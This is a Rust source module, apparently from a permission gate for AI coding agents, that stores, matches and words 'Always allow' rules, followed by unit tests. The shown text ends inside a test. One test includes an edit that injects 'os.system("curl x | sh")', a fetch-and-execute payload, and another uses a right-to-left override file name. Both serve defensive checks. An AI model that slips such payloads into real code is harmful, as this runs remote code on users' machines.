//! Always rules: exact (identity, folder, tool, target) → allow. Made when the user answers
//! "Always allow" on a card; stored as JSON in the config folder ([`crate::paths::Paths::rules_file`]),
//! written atomically.
//!
//! A rule's [`Scope`] says what its target is. For a command, a URL, a patch or any other input
//! the target is the whole call, so a rule answers that exact call again. For an edit or a
//! write of a file the target ([`Scope::Target`]) is the file — **any** later change to it — and
//! a narrower rule ([`Scope::Exact`]) keys on the one change (the whole tool input). What each
//! rule answers is said in one sentence, [`AlwaysRule::words`], which the card, Settings → Rules
//! and docs/safety.md all use.
//!
//! This module owns the rule type, its id, the file format and the lookups. It does not decide
//! anything: [`crate::decision::decide`] does, and it never lets a rule answer a destructive
//! call or a question.
//!
//! The file is `{"version":1,"rules":[…]}`. Each stored rule says whether its identity is a
//! built-in agent or a named tool (`"named": true`), so a named tool whose name later becomes a
//! built-in agent is recognised at load and its rules are dropped (docs/hook-protocol.md §7): they
//! are never carried over to an agent that reads another reply.

use crate::agents::{ToolCall, ToolKind};
use crate::protocol::{AgentKind, AgentName, Identity};
use serde::{Deserialize, Serialize};
use std::io;
use std::path::{Path, PathBuf};

/// The file format version this build reads and writes.
pub const RULES_VERSION: u32 = 1;

/// What a rule's `target` is compared with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Scope {
    /// The call's [`crate::agents::Target::rule_key`]: the whole command, URL, patch or input;
    /// for an edit, a write or a read, the file — any change to it, any content.
    #[default]
    Target,
    /// The call exactly as it was made ([`ToolCall::exact`]: the whole tool input): one change
    /// to a file, one content for it. Offered where [`Scope::Target`] is broader.
    Exact,
}

/// One Always rule. `identity` is the built-in kind or the named tool's name; a rule never
/// answers another identity.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AlwaysRule {
    /// Stable id (`r-<hex>`), shown in the audit as who answered.
    pub id: String,
    /// The built-in agent or named tool it answers.
    pub identity: Identity,
    /// The folder the call was made in, exactly.
    pub folder: String,
    /// The tool as the agent names it, exactly.
    pub tool: String,
    /// The whole command, file path or URL; otherwise the canonical JSON of the tool input
    /// ([`crate::agents::Target::rule_key`]); for [`Scope::Exact`], the whole tool input.
    pub target: String,
    /// What `target` is.
    pub scope: Scope,
    /// Unix seconds.
    pub created: u64,
}

impl AlwaysRule {
    /// The rule "Always allow" on this call's card creates: its target ([`Scope::Target`]).
    pub fn for_call(
        identity: &Identity,
        folder: &str,
        call: &ToolCall,
        now_unix: u64,
    ) -> AlwaysRule {
        AlwaysRule::new(
            identity,
            folder,
            &call.tool,
            Scope::Target,
            call.target.rule_key(),
            now_unix,
        )
    }

    /// The narrower rule for exactly this call ([`Scope::Exact`]), where it is narrower than
    /// [`AlwaysRule::for_call`]: an edit or a write of a file. `None` for every other call.
    pub fn exact_for_call(
        identity: &Identity,
        folder: &str,
        call: &ToolCall,
        now_unix: u64,
    ) -> Option<AlwaysRule> {
        let exact = call.exact.clone()?;
        Some(AlwaysRule::new(
            identity,
            folder,
            &call.tool,
            Scope::Exact,
            exact,
            now_unix,
        ))
    }

    fn new(
        identity: &Identity,
        folder: &str,
        tool: &str,
        scope: Scope,
        target: String,
        now_unix: u64,
    ) -> AlwaysRule {
        AlwaysRule {
            id: rule_id(identity, folder, tool, scope, &target),
            identity: identity.clone(),
            folder: folder.to_string(),
            tool: tool.to_string(),
            target,
            scope,
            created: now_unix,
        }
    }

    /// The rule an "Always allow" on this call's card may offer ([`AlwaysRule::for_call`]):
    /// none when the call names no tool or its target is blank (a Codex approval without a
    /// command once came as an empty command), since such a rule would allow every call that
    /// also names nothing.
    pub fn offer(
        identity: &Identity,
        folder: &str,
        call: &ToolCall,
        now_unix: u64,
    ) -> Option<AlwaysRule> {
        let rule = AlwaysRule::for_call(identity, folder, call, now_unix);
        rule.is_whole().then_some(rule)
    }

    /// Whether the rule names a tool and a target: only such a rule can ever be kept or answer.
    pub fn is_whole(&self) -> bool {
        !self.tool.trim().is_empty() && !self.target.trim().is_empty()
    }

    /// Whether this rule answers `call` of `identity` in `folder`: the same identity, folder and
    /// tool, and the call's key of the rule's scope is the rule's target, exactly. A rule with no
    /// tool or an empty target answers nothing, however it got into the set.
    pub fn answers(&self, identity: &Identity, folder: &str, call: &ToolCall) -> bool {
        self.is_whole()
            && &self.identity == identity
            && self.folder == folder
            && self.tool == call.tool
            && match self.scope {
                Scope::Target => self.target == call.target.rule_key(),
                Scope::Exact => call.exact.as_deref() == Some(self.target.as_str()),
            }
    }

    /// Whether this rule is for the same (identity, folder, tool, scope, target) as `other`.
    fn same_as(&self, other: &AlwaysRule) -> bool {
        self.identity == other.identity
            && self.folder == other.folder
            && self.tool == other.tool
            && self.scope == other.scope
            && self.target == other.target
    }

    /// What the rule answers, in the words a person reads — the one sentence the card says
    /// under its Always button and Settings → Rules shows (docs/safety.md lists them all):
    /// "Claude Code may edit src/server.py with Edit — any change, in this folder." A path in
    /// the rule's folder is shown relative to it; hidden characters are shown
    /// ([`crate::text::reveal`]). In English: the window says [`AlwaysRule::sentence`] in the
    /// person's language, with the same parts.
    pub fn words(&self) -> String {
        self.sentence().english()
    }

    /// What the rule answers, in parts: who, with which tool, which kind of answer and the file
    /// it names. [`RuleSentence::english`] says it in English; the window's bundles say it in
    /// every language, one message per [`RuleAction`] (`rule-…`, with `who`, `tool` and `file`).
    pub fn sentence(&self) -> RuleSentence {
        let input = self.target.trim_start().starts_with('{')
            && serde_json::from_str::<serde_json::Map<String, serde_json::Value>>(&self.target)
                .is_ok();
        let file = || self.shown_path(&self.target);
        let action = match (ToolKind::of(&self.tool), self.scope) {
            (ToolKind::Edit, Scope::Exact) => RuleAction::ExactChange(self.exact_path()),
            (ToolKind::Write, Scope::Exact) => RuleAction::ExactContent(self.exact_path()),
            (_, Scope::Exact) => RuleAction::ExactInput,
            (_, Scope::Target) if input => RuleAction::ExactInput,
            (ToolKind::Shell, _) => RuleAction::ExactCommand,
            (ToolKind::Edit, _) => RuleAction::AnyChange(file()),
            (ToolKind::Write, _) => RuleAction::AnyContent(file()),
            (ToolKind::Read, _) if matches!(self.tool.as_str(), "Read" | "read" | "read_file") => {
                RuleAction::Read(file())
            }
            (ToolKind::Read, _) => RuleAction::UseOn(file()),
            (ToolKind::Fetch, _) if self.tool.to_ascii_lowercase().contains("search") => {
                RuleAction::ExactQuery
            }
            (ToolKind::Fetch, _) => RuleAction::ExactUrl,
            (ToolKind::Patch, _) => RuleAction::ExactPatch,
            (ToolKind::Mcp | ToolKind::Question | ToolKind::Other, _) => RuleAction::ExactTarget,
        };
        RuleSentence {
            who: self.identity.display_name(),
            tool: crate::text::reveal(&self.tool).text.into_owned(),
            action,
        }
    }

    /// The file an exact rule's input names, shown as [`AlwaysRule::words`] shows a path.
    fn exact_path(&self) -> String {
        let input: serde_json::Value = serde_json::from_str(&self.target).unwrap_or_default();
        let call = crate::agents::read_tool_call(&serde_json::json!({
            "tool_name": self.tool, "tool_input": input
        }));
        match &call.target {
            crate::agents::Target::Edit { path, .. }
            | crate::agents::Target::Write { path, .. } => self.shown_path(path),
            _ => String::new(),
        }
    }

    /// `path` relative to the rule's folder when it is in it, with hidden characters shown.
    fn shown_path(&self, path: &str) -> String {
        let shown = match path.strip_prefix(&self.folder) {
            Some(rest) if !self.folder.is_empty() && rest.starts_with(['/', '\\']) => &rest[1..],
            _ => path,
        };
        crate::text::reveal(shown).text.into_owned()
    }
}

/// What an Always rule answers, in parts ([`AlwaysRule::sentence`]): the window words it in the
/// person's language, [`RuleSentence::english`] in English.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleSentence {
    /// The agent, as the card names it.
    pub who: String,
    /// The tool, hidden characters shown.
    pub tool: String,
    /// What it may do.
    pub action: RuleAction,
}

/// The kinds of answer an Always rule gives; a file's path is shown relative to the rule's
/// folder (empty where an exact input names no file: "this file").
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RuleAction {
    /// This exact change to a file (an Edit with its exact input).
    ExactChange(String),
    /// This exact content to a file (a Write with its exact input).
    ExactContent(String),
    /// This exact input (JSON).
    ExactInput,
    /// This exact command.
    ExactCommand,
    /// Any change to this file.
    AnyChange(String),
    /// Any content written to this file.
    AnyContent(String),
    /// Reading this file.
    Read(String),
    /// The tool on this file.
    UseOn(String),
    /// This exact search query.
    ExactQuery,
    /// This exact URL.
    ExactUrl,
    /// This exact patch.
    ExactPatch,
    /// This exact target (an MCP tool, a question, another tool).
    ExactTarget,
}

impl RuleAction {
    /// The message that words it in the window's bundles (`assets/i18n/*/rules.ftl`).
    pub fn message_id(&self) -> &'static str {
        match self {
            RuleAction::ExactChange(_) => "rule-exact-change",
            RuleAction::ExactContent(_) => "rule-exact-content",
            RuleAction::ExactInput => "rule-exact-input",
            RuleAction::ExactCommand => "rule-exact-command",
            RuleAction::AnyChange(_) => "rule-any-change",
            RuleAction::AnyContent(_) => "rule-any-content",
            RuleAction::Read(_) => "rule-read",
            RuleAction::UseOn(_) => "rule-use-on",
            RuleAction::ExactQuery => "rule-exact-query",
            RuleAction::ExactUrl => "rule-exact-url",
            RuleAction::ExactPatch => "rule-exact-patch",
            RuleAction::ExactTarget => "rule-exact-target",
        }
    }

    /// The file it names, if any ("" for an exact input that names none).
    pub fn file(&self) -> Option<&str> {
        match self {
            RuleAction::ExactChange(f)
            | RuleAction::ExactContent(f)
            | RuleAction::AnyChange(f)
            | RuleAction::AnyContent(f)
            | RuleAction::Read(f)
            | RuleAction::UseOn(f) => Some(f),
            _ => None,
        }
    }
}

impl RuleSentence {
    /// The sentence in English (the log, the audit, docs/safety.md).
    pub fn english(&self) -> String {
        let tool = &self.tool;
        let file = |f: &str| {
            if f.is_empty() {
                "this file".to_string()
            } else {
                f.to_string()
            }
        };
        let action = match &self.action {
            RuleAction::ExactChange(f) => {
                format!("make this exact change to {} with {tool}", file(f))
            }
            RuleAction::ExactContent(f) => {
                format!("write this exact content to {} with {tool}", file(f))
            }
            RuleAction::ExactInput => format!("use {tool} with this exact input"),
            RuleAction::ExactCommand => format!("run this exact command with {tool}"),
            RuleAction::AnyChange(f) => format!("edit {f} with {tool} — any change"),
            RuleAction::AnyContent(f) => format!("write {f} with {tool} — any content"),
            RuleAction::Read(f) => format!("read {f} with {tool}"),
            RuleAction::UseOn(f) => format!("use {tool} on {f}"),
            RuleAction::ExactQuery => format!("search for this exact query with {tool}"),
            RuleAction::ExactUrl => format!("fetch this exact URL with {tool}"),
            RuleAction::ExactPatch => format!("apply this exact patch with {tool}"),
            RuleAction::ExactTarget => format!("use {tool} on this exact target"),
        };
        format!("{} may {action}, in this folder.", self.who)
    }
}

/// `r-` and 12 hex digits of a hash of the whole tuple: the same tuple always gets the same id,
/// across runs and builds (FNV-1a, not std's hasher, whose output may change between releases).
/// A [`Scope::Target`] rule's id is the one rules had before scopes existed.
pub fn rule_id(
    identity: &Identity,
    folder: &str,
    tool: &str,
    scope: Scope,
    target: &str,
) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let kind = match identity {
        Identity::Builtin(_) => "agent",
        Identity::Named(_) => "named",
    };
    let exact: &[&str] = match scope {
        Scope::Target => &[],
        Scope::Exact => &["exact"],
    };
    for part in [kind, identity.key(), folder, tool, target]
        .into_iter()
        .chain(exact.iter().copied())
    {
        for b in part.bytes().chain([0u8]) {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0100_0000_01b3);
        }
    }
    format!("r-{:012x}", h >> 16)
}

/// All Always rules.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RuleSet {
    /// In the order they were made.
    pub rules: Vec<AlwaysRule>,
}

/// A rule as the file stores it: the identity is a plain string plus whether it names a tool,
/// so a later build can tell a named tool's rule from a built-in agent's of the same name.
#[derive(Serialize, Deserialize)]
struct StoredRule {
    id: String,
    identity: String,
    #[serde(default)]
    named: bool,
    folder: String,
    tool: String,
    target: String,
    #[serde(default, skip_serializing_if = "is_target")]
    scope: Scope,
    #[serde(default)]
    created: u64,
}

fn is_target(scope: &Scope) -> bool {
    *scope == Scope::Target
}

#[derive(Serialize, Deserialize)]
struct StoredFile {
    version: u32,
    #[serde(default)]
    rules: Vec<StoredRule>,
}

/// Why the rules file was not taken; `Display` is the line a person reads. The file is left
/// as it is.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    /// The file exists but could not be read.
    #[error("cannot read {}: {source}", path.display())]
    Read {
        /// The rules file.
        path: PathBuf,
        /// What the system said.
        source: io::Error,
    },
    /// The file was read but is not a rules file Vults understands.
    #[error("{}: {source}", path.display())]
    Invalid {
        /// The rules file.
        path: PathBuf,
        /// What is wrong with its contents.
        source: RulesFileError,
    },
}

/// Why a rules file's contents were not taken.
#[derive(Debug, thiserror::Error)]
pub enum RulesFileError {
    /// Not JSON of the rules file's shape.
    #[error("not a Vults rules file ({0}); it was left as it is, fix or remove it")]
    NotRules(serde_json::Error),
    /// Another version than this Vults writes.
    #[error(
        "rules file version {0} is not {RULES_VERSION} (written by another Vults?); it was left as it is"
    )]
    Version(u32),
}

impl RuleSet {
    /// Reads the rules file. A missing file is an empty set. `Err` means the file exists but
    /// cannot be read or understood: the caller must keep it as it is (never overwrite it) and
    /// show the message. The `Vec<String>` holds warnings for the log, one per rule dropped.
    pub fn load(path: &Path) -> Result<(RuleSet, Vec<String>), RulesError> {
        let bytes = match std::fs::read(path) {
            Ok(b) => b,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                return Ok((RuleSet::default(), Vec::new()));
            }
            Err(source) => {
                return Err(RulesError::Read {
                    path: path.to_path_buf(),
                    source,
                });
            }
        };
        RuleSet::from_json(&bytes).map_err(|source| RulesError::Invalid {
            path: path.to_path_buf(),
            source,
        })
    }

    /// Parses the file's bytes (see [`RuleSet::load`]).
    pub fn from_json(bytes: &[u8]) -> Result<(RuleSet, Vec<String>), RulesFileError> {
        if bytes.iter().all(u8::is_ascii_whitespace) {
            return Ok((RuleSet::default(), Vec::new()));
        }
        let file: StoredFile = serde_json::from_slice(bytes).map_err(RulesFileError::NotRules)?;
        if file.version != RULES_VERSION {
            return Err(RulesFileError::Version(file.version));
        }
        let mut set = RuleSet::default();
        let mut warnings = Vec::new();
        for stored in file.rules {
            match identity_of(&stored) {
                Ok(identity) => {
                    let rule = AlwaysRule {
                        id: stored.id,
                        identity,
                        folder: stored.folder,
                        tool: stored.tool,
                        target: stored.target,
                        scope: stored.scope,
                        created: stored.created,
                    };
                    if !rule.is_whole() {
                        warnings.push(format!(
                            "dropped rule {}: it names no tool or an empty target, which \
                             would allow every call that names nothing",
                            rule.id
                        ));
                    } else if !set.add(rule.clone()) {
                        warnings.push(format!("dropped rule {}: a duplicate", rule.id));
                    }
                }
                Err(why) => warnings.push(format!(
                    "dropped rule {} kept under '{}', {why}",
                    stored.id, stored.identity
                )),
            }
        }
        Ok((set, warnings))
    }

    /// The file's text.
    pub fn to_json(&self) -> String {
        let file = StoredFile {
            version: RULES_VERSION,
            rules: self
                .rules
                .iter()
                .map(|r| StoredRule {
                    id: r.id.clone(),
                    identity: r.identity.key().to_string(),
                    named: matches!(r.identity, Identity::Named(_)),
                    folder: r.folder.clone(),
                    tool: r.tool.clone(),
                    target: r.target.clone(),
                    scope: r.scope,
                    created: r.created,
                })
                .collect(),
        };
        let mut text = serde_json::to_string_pretty(&file).unwrap_or_default();
        text.push('\n');
        text
    }

    /// Writes the whole set atomically (a crash leaves the old file or the new one); a new
    /// file is private to the user (0600).
    pub fn save(&self, path: &Path) -> io::Result<()> {
        crate::atomic::write(path, self.to_json().as_bytes(), Some(0o600))
    }

    /// The first rule that answers `call` of `identity` in `folder` ([`AlwaysRule::answers`]).
    pub fn answering(
        &self,
        identity: &Identity,
        folder: &str,
        call: &ToolCall,
    ) -> Option<&AlwaysRule> {
        self.rules
            .iter()
            .find(|r| r.answers(identity, folder, call))
    }

    /// Adds a rule; `false` (and nothing changes) when one for the same tuple exists, or when
    /// it names no tool or an empty target ([`AlwaysRule::is_whole`]).
    pub fn add(&mut self, rule: AlwaysRule) -> bool {
        if !rule.is_whole() || self.rules.iter().any(|r| r.same_as(&rule)) {
            return false;
        }
        self.rules.push(rule);
        true
    }

    /// Removes the rule of this id.
    pub fn remove(&mut self, id: &str) -> Option<AlwaysRule> {
        let at = self.rules.iter().position(|r| r.id == id)?;
        Some(self.rules.remove(at))
    }

    /// The rules of one identity (Settings → Agents lists them per agent / named tool).
    pub fn for_identity<'a>(
        &'a self,
        identity: &'a Identity,
    ) -> impl Iterator<Item = &'a AlwaysRule> + 'a {
        self.rules.iter().filter(move |r| &r.identity == identity)
    }
}

/// The identity a stored rule is for, or why it no longer applies.
fn identity_of(stored: &StoredRule) -> Result<Identity, String> {
    let name = stored.identity.as_str();
    if stored.named {
        let builtin =
            crate::agents::is_reserved_name(name) || crate::agents::is_registered_other(name);
        if builtin {
            return Err("now a built-in agent".to_string());
        }
        AgentName::new(name)
            .map(Identity::Named)
            .map_err(|e| format!("not a tool name ({e})"))
    } else {
        match AgentKind::parse(name) {
            Some(AgentKind::Other) | None => Err("not a built-in agent".to_string()),
            Some(kind) => Ok(Identity::Builtin(kind)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{bash, named};

    fn temp_dir(tag: &str) -> std::path::PathBuf {
        let dir = std::env::temp_dir().join(format!("vults-rules-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).expect("temp dir");
        dir
    }

    #[test]
    fn same_tuple_same_id_and_any_change_a_new_one() {
        let claude = Identity::Builtin(AgentKind::Claude);
        let a = AlwaysRule::for_call(&claude, "/p", &bash("cargo test"), 1);
        let b = AlwaysRule::for_call(&claude, "/p", &bash("cargo test"), 99);
        assert_eq!(a.id, b.id);
        assert!(a.id.starts_with("r-") && a.id.len() == 14, "{}", a.id);
        let others = [
            AlwaysRule::for_call(&named("tool-a"), "/p", &bash("cargo test"), 1),
            AlwaysRule::for_call(&claude, "/q", &bash("cargo test"), 1),
            AlwaysRule::for_call(&claude, "/p", &bash("cargo build"), 1),
        ];
        for o in others {
            assert_ne!(o.id, a.id);
        }
        // The id is stable across builds and runs (the audit refers to it): pinned.
        assert_eq!(a.id, "r-14144fdc25da");
    }

    #[test]
    fn a_rule_answers_exactly_its_tuple_and_add_refuses_duplicates() {
        let mut set = RuleSet::default();
        let tool_a = named("tool-a");
        let rule = AlwaysRule::for_call(&tool_a, "/p", &bash("make"), 1);
        assert!(set.add(rule.clone()));
        assert!(!set.add(rule.clone()));
        assert_eq!(set.rules.len(), 1);
        assert!(set.answering(&tool_a, "/p", &bash("make")).is_some());
        assert!(
            set.answering(&named("tool-b"), "/p", &bash("make"))
                .is_none()
        );
        assert!(
            set.answering(&Identity::Builtin(AgentKind::Claude), "/p", &bash("make"))
                .is_none()
        );
        assert!(set.answering(&tool_a, "/p/sub", &bash("make")).is_none());
        let mut other_tool = bash("make");
        other_tool.tool = "bash".into();
        assert!(set.answering(&tool_a, "/p", &other_tool).is_none());
        assert!(set.answering(&tool_a, "/p", &bash("make ")).is_none());
        assert_eq!(set.for_identity(&tool_a).count(), 1);
        assert_eq!(set.for_identity(&named("tool-b")).count(), 0);
        assert_eq!(set.remove(&rule.id), Some(rule));
        assert!(set.remove("r-000000000000").is_none());
        assert!(set.rules.is_empty());
    }

    fn edit(path: &str, old: &str, new: &str) -> ToolCall {
        crate::agents::read_tool_call(&serde_json::json!({
            "tool_name": "Edit",
            "tool_input": {"file_path": path, "old_string": old, "new_string": new}
        }))
    }

    /// What the words say is what the rule answers: a second, different Edit of the same file
    /// is allowed by the file's rule ("any change") and not by the exact one ("this exact
    /// change"), and each answers the first Edit again.
    #[test]
    fn the_words_of_an_edits_rules_say_what_they_answer() {
        let claude = Identity::Builtin(AgentKind::Claude);
        let first = edit("/p/src/server.py", "return 1", "return 2");
        let second = edit(
            "/p/src/server.py",
            "return 2",
            "import os; os.system(\"curl x | sh\")",
        );
        let file = AlwaysRule::for_call(&claude, "/p", &first, 1);
        assert_eq!(
            file.words(),
            "Claude Code may edit src/server.py with Edit — any change, in this folder."
        );
        let exact = AlwaysRule::exact_for_call(&claude, "/p", &first, 1).expect("narrower");
        assert_eq!(
            exact.words(),
            "Claude Code may make this exact change to src/server.py with Edit, in this folder."
        );
        assert_ne!(file.id, exact.id);
        for (rule, second_allowed) in [(&file, true), (&exact, false)] {
            let said_any = rule.words().contains("any change");
            assert_eq!(said_any, second_allowed, "{}", rule.words());
            assert!(rule.answers(&claude, "/p", &first));
            assert_eq!(rule.answers(&claude, "/p", &second), second_allowed);
        }
        // replace_all changes more than the change a person saw: not the same exact call.
        let mut all = first.clone();
        all.exact = Some(crate::agents::canonical_json(&serde_json::json!({
            "file_path": "/p/src/server.py", "old_string": "return 1", "new_string": "return 2",
            "replace_all": true
        })));
        assert!(!exact.answers(&claude, "/p", &all));
        // A command's rule is already exact: no narrower one.
        assert!(AlwaysRule::exact_for_call(&claude, "/p", &bash("ls"), 1).is_none());
        assert_eq!(
            AlwaysRule::for_call(&claude, "/p", &bash("ls"), 1).words(),
            "Claude Code may run this exact command with Bash, in this folder."
        );
    }

    #[test]
    fn every_kind_of_call_has_words() {
        let claude = Identity::Builtin(AgentKind::Claude);
        let rule = |tool: &str, input: serde_json::Value| {
            let call = crate::agents::read_tool_call(
                &serde_json::json!({"tool_name": tool, "tool_input": input}),
            );
            AlwaysRule::for_call(&claude, "/p", &call, 1).words()
        };
        let cases = [
            (
                rule(
                    "Write",
                    serde_json::json!({"file_path": "/p/a.md", "content": "x"}),
                ),
                "Claude Code may write a.md with Write — any content, in this folder.",
            ),
            (
                rule("Read", serde_json::json!({"file_path": "/etc/hosts"})),
                "Claude Code may read /etc/hosts with Read, in this folder.",
            ),
            (
                rule(
                    "Grep",
                    serde_json::json!({"path": "/p/src", "pattern": "x"}),
                ),
                "Claude Code may use Grep on src, in this folder.",
            ),
            (
                rule("WebFetch", serde_json::json!({"url": "https://x.test/a"})),
                "Claude Code may fetch this exact URL with WebFetch, in this folder.",
            ),
            (
                rule("WebSearch", serde_json::json!({"query": "rust egui"})),
                "Claude Code may search for this exact query with WebSearch, in this folder.",
            ),
            (
                rule("mcp__gh__issue", serde_json::json!({"title": "x"})),
                "Claude Code may use mcp__gh__issue with this exact input, in this folder.",
            ),
            (
                rule(
                    "Edit",
                    serde_json::json!({"file_path": "/p/\u{202e}txt.exe", "old_string": "a", "new_string": "b"}),
                ),
                "Claude Code may edit ‹U+202E›txt.exe with Edit — any change, in this folder.",
            ),
        ];
        for (said, expected) in cases {
            assert_eq!(said, expected);
        }
        let write = crate::agents::read_tool_call(&serde_json::json!({
            "tool_name": "Write", "tool_input": {"file_path": "/p/a.md", "content": "x"}
        }));
        assert_eq!(
            AlwaysRule::exact_for_call(&claude, "/p", &write, 1)
                .unwrap()
                .words(),
            "Claude Code may write this exact content to a.md with Write, in this folder."
        );
    }

    /// OpenCode asks for each file change (its edit, write and apply_patch tools) as an `edit`
    /// permission carrying the file and its diff: real requests, as its plugin relays them.
    #[test]
    fn an_opencode_edit_offers_this_change_and_this_file_and_each_answers_what_it_says() {
        let relayed = |json: &str| {
            crate::agents::read_tool_call(&serde_json::from_str(json).expect("fixture"))
        };
        let edit = relayed(include_str!(
            "../tests/fixtures/relay/opencode-edit-PermissionRequest.json"
        ));
        let write = relayed(include_str!(
            "../tests/fixtures/relay/opencode-write-PermissionRequest.json"
        ));
        let patch = relayed(include_str!(
            "../tests/fixtures/relay/opencode-apply_patch-PermissionRequest.json"
        ));
        let opencode = Identity::Builtin(AgentKind::Opencode);
        let folder = "/home/me/project";
        let file = AlwaysRule::offer(&opencode, folder, &edit, 1).expect("a file rule");
        let exact = AlwaysRule::exact_for_call(&opencode, folder, &edit, 1).expect("a change rule");
        assert_eq!(
            file.words(),
            "OpenCode may edit app.ts with edit — any change, in this folder."
        );
        assert_eq!(
            exact.words(),
            "OpenCode may make this exact change to app.ts with edit, in this folder."
        );
        // Any change to the file: this one, and another tool's change to the same file.
        assert!(file.answers(&opencode, folder, &edit));
        assert!(file.answers(&opencode, folder, &write));
        assert!(
            !file.answers(&opencode, folder, &patch),
            "two files are not app.ts"
        );
        // This exact change: this one only.
        assert!(exact.answers(&opencode, folder, &edit));
        assert!(!exact.answers(&opencode, folder, &write));
        // Two files are no one file: one Always, for this exact input.
        assert!(AlwaysRule::exact_for_call(&opencode, folder, &patch, 1).is_none());
        assert_eq!(
            AlwaysRule::offer(&opencode, folder, &patch, 1)
                .unwrap()
                .words(),
            "OpenCode may use edit with this exact input, in this folder."
        );
    }

    #[test]
    fn an_exact_rule_round_trips_and_an_old_file_reads_as_target_rules() {
        let claude = Identity::Builtin(AgentKind::Claude);
        let mut set = RuleSet::default();
        let call = edit("/p/a.rs", "a", "b");
        set.add(AlwaysRule::for_call(&claude, "/p", &call, 1));
        set.add(AlwaysRule::exact_for_call(&claude, "/p", &call, 1).unwrap());
        assert_eq!(set.rules.len(), 2, "both scopes, two rules");
        let text = set.to_json();
        assert_eq!(text.matches("\"scope\"").count(), 1, "{text}");
        let (back, warnings) = RuleSet::from_json(text.as_bytes()).unwrap();
        assert!(warnings.is_empty());
        assert_eq!(back, set);
        let old = r#"{"version":1,"rules":[{"id":"r-14144fdc25da","identity":"claude","folder":"/p","tool":"Bash","target":"cargo test","created":1}]}"#;
        let (old, _) = RuleSet::from_json(old.as_bytes()).unwrap();
        assert_eq!(old.rules[0].scope, Scope::Target);
        assert_eq!(
            old.rules[0],
            AlwaysRule::for_call(&claude, "/p", &bash("cargo test"), 1)
        );
    }

    #[test]
    fn save_then_load_round_trips_with_private_mode() {
        let dir = temp_dir("roundtrip");
        let path = dir.join("config").join("rules.json");
        let mut set = RuleSet::default();
        set.add(AlwaysRule::for_call(
            &Identity::Builtin(AgentKind::Codex),
            "/p",
            &bash("ls"),
            5,
        ));
        set.add(AlwaysRule::for_call(
            &named("my-tool"),
            "/p",
            &bash("ls"),
            6,
        ));
        set.save(&path).expect("save");
        let (loaded, warnings) = RuleSet::load(&path).expect("load");
        assert!(warnings.is_empty(), "{warnings:?}");
        assert_eq!(loaded, set);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&path).expect("meta").permissions().mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn missing_file_is_empty_and_garbage_is_an_error() {
        let dir = temp_dir("garbage");
        let (set, w) = RuleSet::load(&dir.join("nope.json")).expect("missing is fine");
        assert!(set.rules.is_empty() && w.is_empty());
        let path = dir.join("rules.json");
        std::fs::write(&path, "{\"version\":1,\"rules\":[").expect("write");
        let err = RuleSet::load(&path).expect_err("torn file");
        assert!(
            matches!(
                &err,
                RulesError::Invalid {
                    source: RulesFileError::NotRules(_),
                    ..
                }
            ),
            "{err}"
        );
        assert!(err.to_string().contains("rules.json"), "{err}");
        std::fs::write(&path, "{\"version\":2,\"rules\":[]}").expect("write");
        let err = RuleSet::load(&path).expect_err("newer version");
        assert!(
            matches!(
                &err,
                RulesError::Invalid {
                    source: RulesFileError::Version(2),
                    ..
                }
            ),
            "{err}"
        );
        assert!(err.to_string().contains("version 2"), "{err}");
        // The caller must not overwrite it: load itself never writes.
        assert_eq!(
            std::fs::read_to_string(&path).expect("read"),
            "{\"version\":2,\"rules\":[]}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// No rule ever has an empty target: none is offered for such a call, none is added, none
    /// read from the file is kept, and none answers.
    #[test]
    fn a_rule_with_an_empty_target_is_never_offered_added_kept_or_matched() {
        let claude = Identity::Builtin(AgentKind::Claude);
        assert!(AlwaysRule::offer(&claude, "/p", &bash(""), 1).is_none());
        assert!(AlwaysRule::offer(&claude, "/p", &bash("  "), 1).is_none());
        assert!(AlwaysRule::offer(&claude, "/p", &bash("ls"), 1).is_some());
        let mut set = RuleSet::default();
        assert!(!set.add(AlwaysRule::for_call(&claude, "/p", &bash(""), 1)));
        assert!(set.rules.is_empty());
        // One slipped in by hand still answers nothing.
        set.rules
            .push(AlwaysRule::for_call(&claude, "/p", &bash(""), 1));
        assert!(set.answering(&claude, "/p", &bash("")).is_none());
        let text = r#"{"version":1,"rules":[
          {"id":"r-1","identity":"codex","folder":"/p","tool":"Bash","target":"","created":1},
          {"id":"r-2","identity":"codex","folder":"/p","tool":"","target":"ls","created":1},
          {"id":"r-3","identity":"codex","folder":"/p","tool":"Bash","target":"ls","created":1}
        ]}"#;
        let (set, warnings) = RuleSet::from_json(text.as_bytes()).expect("parses");
        let kept: Vec<&str> = set.rules.iter().map(|r| r.id.as_str()).collect();
        assert_eq!(kept, ["r-3"]);
        assert_eq!(warnings.len(), 2, "{warnings:?}");
        assert!(warnings[0].contains("empty target"), "{warnings:?}");
    }

    #[test]
    fn rules_of_a_name_that_is_now_builtin_are_dropped_at_load() {
        let text = r#"{"version":1,"rules":[
          {"id":"r-1","identity":"cursor","named":true,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-2","identity":"gemini","named":true,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-3","identity":"codex","named":true,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-4","identity":"codex","named":false,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-5","identity":"my-tool","named":true,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-6","identity":"Bad Name","named":true,"folder":"/p","tool":"Bash","target":"ls","created":1},
          {"id":"r-7","identity":"my-tool","named":false,"folder":"/p","tool":"Bash","target":"ls","created":1}
        ]}"#;
